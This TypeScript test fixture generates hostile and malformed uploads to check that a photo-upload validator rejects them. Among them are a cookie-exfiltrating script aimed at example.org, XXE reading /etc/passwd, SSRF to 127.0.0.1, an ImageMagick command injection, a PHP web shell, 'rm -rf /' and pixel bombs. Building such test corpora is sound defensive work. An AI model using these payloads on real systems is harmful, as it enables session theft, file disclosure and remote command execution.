import { randomBytes } from "node:crypto";
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { seededRandom } from "../kernel/random.ts";

/** A file that somebody might send instead of a photo. */
export interface HostileFile {
  name: string;
  bytes: Buffer;
  /** The codes of the refusals that may come; none where it is a photo for all that. */
  refusals: readonly string[];
  /** Whether it may be stored: the part of it that is left is a photo. */
  mayPass?: boolean;
}

const DAMAGED = ["photo.damaged"];
const UNSUPPORTED = ["photo.unsupported"];
const PIXELS = ["photo.too-many-pixels"];
const ANIMATED = ["photo.animated"];

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const check = Buffer.alloc(4);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function ihdr(width: number, height: number, depth = 1, color = 0): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data[8] = depth;
  data[9] = color;
  return chunk("IHDR", data);
}

/** A PNG of one bit a pixel, of the given width and height, with the given number of zero bytes. */
function zeros(width: number, height: number, bytes: number): Buffer {
  const pixels = chunk("IDAT", deflateSync(Buffer.alloc(bytes)));
  return Buffer.concat([
    PNG_SIGNATURE,
    ihdr(width, height),
    pixels,
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

function riff(...parts: [string, Buffer][]): Buffer {
  const body = Buffer.concat(
    parts.map(([type, data]) => {
      const length = Buffer.alloc(4);
      length.writeUInt32LE(data.length);
      const padding = Buffer.alloc(data.length % 2);
      return Buffer.concat([Buffer.from(type, "latin1"), length, data, padding]);
    }),
  );
  const length = Buffer.alloc(4);
  length.writeUInt32LE(body.length + 4);
  return Buffer.concat([Buffer.from("RIFF"), length, Buffer.from("WEBP"), body]);
}

/** The features of a WebP: flags, then width and height less one in 24 bits. */
function vp8x(flags: number, width: number, height: number): Buffer {
  const data = Buffer.alloc(10);
  data[0] = flags;
  data.writeUIntLE(width - 1, 4, 3);
  data.writeUIntLE(height - 1, 7, 3);
  return data;
}

function animatedWebp(frames: number): Buffer {
  const frame: [string, Buffer] = ["ANMF", Buffer.alloc(24)];
  return riff(
    ["VP8X", vp8x(0b10, 400, 400)],
    ["ANIM", Buffer.alloc(6)],
    ...Array.from({ length: frames }, () => frame),
  );
}

function animatedPng(still: Buffer, frames: number): Buffer {
  const control = Buffer.alloc(8);
  control.writeUInt32BE(frames);
  const after = PNG_SIGNATURE.length + 25;
  const frame = chunk("fcTL", Buffer.alloc(26));
  return Buffer.concat([
    still.subarray(0, after),
    chunk("acTL", control),
    ...Array.from({ length: frames }, () => frame),
    still.subarray(after),
  ]);
}

/** A plain photograph: light from one side, with some noise, so that its bytes are not all the same. */
export async function photo(
  format: "jpeg" | "png" | "webp" | "avif" | "gif" | "tiff",
  { width = 900, height = 600, seed = 1 }: { width?: number; height?: number; seed?: number } = {},
): Promise<Buffer> {
  const random = seededRandom(seed);
  const pixels = Buffer.alloc(width * height * 3);
  const tint = [random(), random(), random()];
  for (let at = 0; at < width * height; at++) {
    const light = 60 + (120 * (at % width)) / width + 40 * (Math.floor(at / width / 37) % 2);
    const noise = random() * 20;
    for (let band = 0; band < 3; band++) {
      pixels[at * 3 + band] = Math.min(255, light * (0.7 + (tint[band] ?? 0) * 0.4) + noise);
    }
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } })
    .toFormat(format)
    .toBuffer();
}

/** Its dimensions as the frame's header of a JPEG states them: others, with the same pixels behind. */
function withStatedSize(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg);
  const frame = [0xc0, 0xc2]
    .map((kind) => copy.indexOf(Buffer.from([0xff, kind])))
    .find((at) => at > 0);
  if (frame === undefined) throw new Error("no frame");
  copy.writeUInt16BE(height, frame + 5);
  copy.writeUInt16BE(width, frame + 7);
  return copy;
}

const text = (content: string): Buffer => Buffer.from(content);
const zip = Buffer.concat([text("PK\x03\x04"), Buffer.alloc(60)]);
const SCRIPT = "<script>fetch('//example.org/'+document.cookie)</script>";
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="900" height="600">${SCRIPT}</svg>`;

/** What is no JPEG, PNG or WebP, under whatever name and type it comes. */
async function otherFormats(): Promise<[string, Buffer][]> {
  return [
    ["nothing", Buffer.alloc(0)],
    ["a byte", Buffer.from([0xff])],
    ["two bytes of a JPEG", Buffer.from([0xff, 0xd8])],
    ["zeros", Buffer.alloc(100_000)],
    ["noise", randomBytes(100_000)],
    ["a page", text(`<!doctype html><title>x</title>${SCRIPT}`)],
    ["a drawing", text(SVG)],
    ["a drawing with a declaration", text(`<?xml version="1.0"?>${SVG}`)],
    [
      "a drawing that reads a file",
      text(`<!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]>${SVG}`),
    ],
    [
      "a drawing that grows",
      text(`<!DOCTYPE s [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${SVG}`),
    ],
    ["a drawing that loads", text(SVG.replace(SCRIPT, '<image href="http://127.0.0.1/"/>'))],
    ["a drawing after spaces", text(`${" ".repeat(5_000)}${SVG}`)],
    ["a GIF", await photo("gif")],
    ["an AVIF", await photo("avif")],
    ["a TIFF", await photo("tiff")],
    ["a bitmap", Buffer.concat([text("BM"), Buffer.alloc(2_000)])],
    ["an icon", Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), Buffer.alloc(500)])],
    ["a PDF", text("%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>")],
    ["PostScript", text("%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file")],
    ["an ImageMagick script", text('push graphic-context\nfill "url(https://example.org/|ls)"\n')],
    ["an archive", zip],
    ["a Windows program", Buffer.concat([text("MZ"), Buffer.alloc(500)])],
    ["a Linux program", Buffer.concat([text("\x7fELF"), Buffer.alloc(500)])],
    ["a script", text("#!/bin/sh\nrm -rf /\n")],
    ["PHP", text("<?php system($_GET['c']); ?>")],
    ["a Photoshop file", Buffer.concat([text("8BPS"), Buffer.alloc(500)])],
    [
      "JPEG 2000",
      Buffer.concat([Buffer.from([0, 0, 0, 12]), text("jP  \r\n\x87\n"), Buffer.alloc(300)]),
    ],
    ["a film", Buffer.concat([Buffer.from([0, 0, 0, 24]), text("ftypmp42"), Buffer.alloc(300)])],
    ["a sound", Buffer.concat([text("RIFF\0\0\0\0WAVEfmt "), Buffer.alloc(300)])],
    ["a page before a JPEG", Buffer.concat([text(SCRIPT), await photo("jpeg")])],
    ["a GIF before an archive", Buffer.concat([await photo("gif"), zip])],
    ["JSON", text('{"key":"x"}')],
    [
      "a form with parts",
      text('--x\r\nContent-Disposition: form-data; name="f"\r\n\r\nx\r\n--x--'),
    ],
  ];
}

/** Some two hundred files, none of which is an ordinary photo. The same ones each time, but for their noise. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const [jpeg, png, webp] = await Promise.all([photo("jpeg"), photo("png"), photo("webp")]);
  const files: HostileFile[] = (await otherFormats()).map(([name, bytes]) => ({
    name,
    bytes,
    refusals: UNSUPPORTED,
  }));
  const add = (name: string, bytes: Buffer, refusals: readonly string[], mayPass = false) =>
    files.push({ name, bytes, refusals, mayPass });

  for (const [name, whole] of Object.entries({ JPEG: jpeg, PNG: png, WebP: webp })) {
    for (let percent = 3; percent < 97; percent += 3) {
      const cut = whole.subarray(0, Math.floor((whole.length * percent) / 100));
      add(`a ${name} cut at ${percent} %`, cut, DAMAGED);
    }
    add(
      `the first bytes of a ${name} and noise`,
      Buffer.concat([whole.subarray(0, 40), randomBytes(9_000)]),
      DAMAGED,
    );
    add(
      `the first bytes of a ${name} and zeros`,
      Buffer.concat([whole.subarray(0, 40), Buffer.alloc(9_000)]),
      DAMAGED,
    );
    // What follows a picture is not read: it is gone with the rest of the file.
    for (const [what, tail] of Object.entries({
      archive: zip,
      page: text(SCRIPT),
      PHP: text("<?php 1 ?>"),
    })) {
      add(`a ${name} with an ${what} behind it`, Buffer.concat([whole, tail]), DAMAGED, true);
    }
    const random = seededRandom(whole.length);
    for (let at = 0; at < 12; at++) {
      const changed = Buffer.from(whole);
      for (let byte = 0; byte < 40; byte++) {
        changed[20 + Math.floor(random() * (changed.length - 20))] = Math.floor(random() * 256);
      }
      const any = [
        ...DAMAGED,
        ...PIXELS,
        ...ANIMATED,
        "photo.too-small",
        "photo.too-slow",
        "photo.too-heavy",
      ];
      add(`a ${name} with changed bytes, ${at}`, changed, any, true);
    }
  }

  add("a PNG of 30,000 pixels square", zeros(30_000, 30_000, 30_000 * 3_751), PIXELS);
  for (const [width, height] of [
    [65_535, 65_535],
    [2_000_000, 300],
    [300, 2_000_000],
    [1_000_000, 1_000_000],
    [6_400, 6_400],
  ] as const) {
    const refusals = [...PIXELS, ...DAMAGED];
    add(`a PNG that states ${width} × ${height}`, zeros(width, height, 1_000), refusals);
  }
  add("a PNG that states no width", zeros(0, 400, 1_000), DAMAGED);
  add("a PNG that states 39 megapixels and has none", zeros(6_200, 6_200, 10), DAMAGED);
  for (const [width, height] of [
    [65_500, 65_500],
    [30_000, 30_000],
    [65_500, 3_100],
  ] as const) {
    add(`a JPEG that states ${width} × ${height}`, withStatedSize(jpeg, width, height), PIXELS);
  }
  add("a JPEG that states 46 megapixels", withStatedSize(jpeg, 65_500, 700), DAMAGED, true);
  add("a JPEG that states more than it has", withStatedSize(jpeg, 5_000, 5_000), DAMAGED, true);
  add("a WebP that states 16,383 pixels square", riff(["VP8X", vp8x(0, 16_383, 16_383)]), [
    ...PIXELS,
    ...DAMAGED,
  ]);

  for (const frames of [2, 100, 10_000]) {
    add(`a WebP of ${frames} frames`, animatedWebp(frames), ANIMATED);
    add(`a PNG of ${frames} frames`, animatedPng(png, frames), ANIMATED);
  }
  for (const [width, height] of [
    [1, 1],
    [199, 900],
    [900, 199],
  ] as const) {
    const small = await photo("png", { width, height });
    add(`a photo of ${width} × ${height}`, small, ["photo.too-small"]);
  }
  const heic = Buffer.concat([
    Buffer.from([0, 0, 0, 24]),
    text("ftypheic\0\0\0\0mif1heic"),
    randomBytes(5_000),
  ]);
  add("a damaged HEIC", heic, ["photo.heic"]);
  add(
    "an AVIF as mif1",
    Buffer.concat([Buffer.from([0, 0, 0, 28]), text("ftypmif1\0\0\0\0mif1avif"), randomBytes(500)]),
    UNSUPPORTED,
  );
  return files;
}
